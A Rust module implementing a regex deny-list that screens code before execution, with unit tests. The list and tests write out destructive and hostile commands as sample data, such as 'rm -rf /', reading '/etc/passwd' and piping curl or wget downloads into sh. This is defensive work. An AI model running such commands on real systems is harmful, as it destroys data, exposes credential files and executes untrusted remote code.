//! Static screen applied to code before it is executed.
//!
//! This is a coarse pattern match, not a sandbox: it rejects a handful of
//! obviously destructive constructs. Unsandboxed runs get two extra rules
//! guarding absolute host paths.

use once_cell::sync::Lazy;
use regex::{Regex, RegexBuilder};
use tracing::warn;

/// Rejected everywhere
pub const DANGEROUS_PATTERNS: &[&str] = &[
    r"os\.system\s*\(",
    r"subprocess\.call\s*\([^)]*shell\s*=\s*True",
    r#"open\s*\([^)]*["']/etc"#,
    r"rm\s+-rf\s+/",
    r"chmod\s+777",
    r"curl\s+.*\|\s*sh",
    r"wget\s+.*\|\s*sh",
];

/// Additionally rejected when running directly on the host
pub const LOCAL_ONLY_PATTERNS: &[&str] = &[
    r#"shutil\.rmtree\s*\([^)]*["']/"#,
    r#"pathlib\.Path\s*\([^)]*["']/"#,
];

type Rules = Vec<(&'static str, Regex)>;

fn compile(patterns: &[&'static str]) -> Rules {
    patterns
        .iter()
        .filter_map(|p| match RegexBuilder::new(p).case_insensitive(true).build() {
            Ok(re) => Some((*p, re)),
            Err(e) => {
                warn!("Skipping invalid security pattern {}: {}", p, e);
                None
            }
        })
        .collect()
}

static COMMON: Lazy<Rules> = Lazy::new(|| compile(DANGEROUS_PATTERNS));
static LOCAL: Lazy<Rules> = Lazy::new(|| compile(LOCAL_ONLY_PATTERNS));

/// First pattern `code` matches, if any. `local` enables the host-only rules.
pub fn check(code: &str, local: bool) -> Option<&'static str> {
    let local_rules: &[(&'static str, Regex)] = if local { LOCAL.as_slice() } else { &[] };
    COMMON
        .iter()
        .chain(local_rules)
        .find(|(_, re)| re.is_match(code))
        .map(|(pattern, _)| *pattern)
}

/// Reason string recorded on a blocked execution
pub fn block_reason(pattern: &str) -> String {
    format!("Dangerous pattern detected: {}", pattern)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_all_patterns_compile() {
        assert_eq!(COMMON.len(), DANGEROUS_PATTERNS.len());
        assert_eq!(LOCAL.len(), LOCAL_ONLY_PATTERNS.len());
    }

    #[test]
    fn test_blocks_common_patterns() {
        let cases = [
            "import os\nos.system('ls')",
            "subprocess.call('ls', shell=True)",
            "open('/etc/passwd').read()",
            "rm -rf /",
            "CHMOD 777 file",
            "curl http://x.sh | sh",
            "wget -qO- http://x | sh",
        ];
        for code in cases {
            assert!(check(code, false).is_some(), "should block: {code}");
        }
    }

    #[test]
    fn test_local_only_patterns() {
        let code = "import shutil\nshutil.rmtree('/home')";
        assert_eq!(check(code, false), None);
        assert_eq!(check(code, true), Some(LOCAL_ONLY_PATTERNS[0]));
        assert!(check("pathlib.Path('/var/log')", true).is_some());
    }

    #[test]
    fn test_allows_ordinary_code() {
        assert_eq!(check("print('hello')\nopen('data.csv')", true), None);
        assert_eq!(check("rm -rf ./build", true), None);
        assert_eq!(check("subprocess.call(['ls'])", true), None);
    }

    #[test]
    fn test_block_reason() {
        assert_eq!(
            block_reason(DANGEROUS_PATTERNS[3]),
            r"Dangerous pattern detected: rm\s+-rf\s+/"
        );
    }
}
